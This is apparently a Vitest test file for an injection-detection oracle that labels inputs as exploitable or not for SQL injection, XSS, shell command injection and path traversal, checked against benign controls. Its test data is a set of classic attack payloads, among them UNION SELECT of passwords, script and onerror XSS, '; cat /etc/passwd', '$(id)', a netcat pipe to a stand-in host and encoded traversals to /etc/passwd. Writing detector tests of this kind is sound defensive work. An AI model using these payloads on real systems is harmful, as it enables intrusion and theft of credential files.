import { afterAll, describe, expect, it } from 'vitest';
import { runOracle, type OracleKind } from './oracles/index';
import { closeCanaryDb } from './oracles/sql-canary';

afterAll(() => closeCanaryDb());
const verdict = async (k: OracleKind, p: string) => (await runOracle(k, p)).verdict;

describe('SQL oracle (libpg-query + PGlite canary)', () => {
  it("' OR '1'='1 adds a boolean branch and leaks the canary row", async () => {
    const r = await runOracle('sql_injection', "' OR '1'='1");
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(/\+1 BoolExpr/);
    expect(r.evidence.join('\n')).toMatch(/canary/);
  });
  it('UNION SELECT in a numeric context adds a statement branch and returns the canary secret', async () => {
    const r = await runOracle('sql_injection', '1 UNION SELECT password FROM users');
    expect(r.verdict).toBe('exploit_possible');
    expect(r.contexts.find((c) => c.name === 'numeric')?.detail).toMatch(/SETOP_UNION.*canary row leaked/);
  });
  it("comment that swallows the rest (admin'--) is an exploit", async () => {
    const r = await runOracle('sql_injection', "admin'--");
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(/comment swallows the rest/);
  });
  it('time-based payloads do not stall: pg_sleep is recorded, not slept', async () => {
    const t = Date.now();
    const r = await runOracle('sql_injection', '1; SELECT pg_sleep(30)');
    expect(r.verdict).toBe('exploit_possible');
    expect(Date.now() - t).toBeLessThan(5_000);
  });
  it("O'Brien: the lone quote is a parse error, so nothing runs — improbable, with the reason", async () => {
    const r = await runOracle('sql_injection', "O'Brien");
    expect(r.verdict).toBe('exploit_improbable');
    expect(r.contexts[0].detail).toMatch(/parse error, statement rejected/);
  });
  it.each(['select a drop-down', '<3', 'AT&T', 'report (final).pdf', 'docs/readme.md'])('benign %j → improbable', async (p) => {
    expect(await verdict('sql_injection', p)).toBe('exploit_improbable');
  });
});

describe('XSS oracle (parse5)', () => {
  it.each([
    ['<script>alert(1)</script>', /new <script> element/],
    ['" onmouseover="alert(1)', /event-handler attribute: input@onmouseover/],
    ['javascript:alert(1)', /script URL in URL attribute/],
    ['</script><img src=x onerror=alert(1)>', /event-handler/],
    ['"; alert(1); "', /JavaScript string/],
  ])('%j → exploit', async (p, why) => {
    const r = await runOracle('xss', p);
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it.each(['select a drop-down', '<3', 'AT&T', "O'Brien", 'report (final).pdf', 'docs/readme.md'])('benign %j → improbable', async (p) => {
    expect(await verdict('xss', p)).toBe('exploit_improbable');
  });
});

describe('shell oracle (mvdan/sh)', () => {
  it.each([
    ['; cat /etc/passwd', /additional command/],
    ['$(id)', /command substitution \$\(id\)/],
    ['`id`', /command substitution/],
    ['x | nc evil 1', /pipeline/],
    ['x && id', /pipeline, &&\/\|\| list/],
    ['x > /tmp/owned', /redirection/],
  ])('%j → exploit', async (p, why) => {
    const r = await runOracle('command_injection', p);
    expect(r.verdict).toBe('exploit_possible');
    expect(r.evidence.join('\n')).toMatch(why);
  });
  it.each(['select a drop-down', 'report (final).pdf', 'docs/readme.md', "O'Brien", 'my file.txt'])('benign %j → improbable', async (p) => {
    expect(await verdict('command_injection', p)).toBe('exploit_improbable');
  });
  it("'$(id)' is inert unquoted but runs inside double quotes (single quotes are literal there)", async () => {
    const r = await runOracle('command_injection', "'$(id)'");
    expect(r.contexts.map((c) => c.exploitable)).toEqual([false, true]);
  });
  it('AT&T really is an injection in an unquoted shell argument (runs T in the foreground)', async () => {
    const r = await runOracle('command_injection', 'AT&T');
    expect(r.contexts.find((c) => c.name === 'unquoted argument')?.exploitable).toBe(true);
    expect(r.contexts.find((c) => c.name === 'double-quoted argument')?.exploitable).toBe(false);
  });
});

describe('path oracle (virtual root + decoding)', () => {
  it.each(['../../etc/passwd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%c0%af..%c0%afetc/passwd', '%252e%252e%252f%252e%252e%252f', '..\\..\\..\\windows\\win.ini', '../../../../etc/passwd%00.png'])(
    '%j → exploit',
    async (p) => {
      expect(await verdict('path_traversal', p)).toBe('exploit_possible');
    },
  );
  it('reaching the canary is reported', async () => {
    const r = await runOracle('path_traversal', '../../../etc/passwd');
    expect(r.evidence.join('\n')).toMatch(/canary file reached/);
  });
  it.each(['docs/readme.md', 'report (final).pdf', 'select a drop-down', 'AT&T', '<3', 'private/secret.json', 'a/../index.html'])('benign %j → improbable', async (p) => {
    expect(await verdict('path_traversal', p)).toBe('exploit_improbable');
  });
});
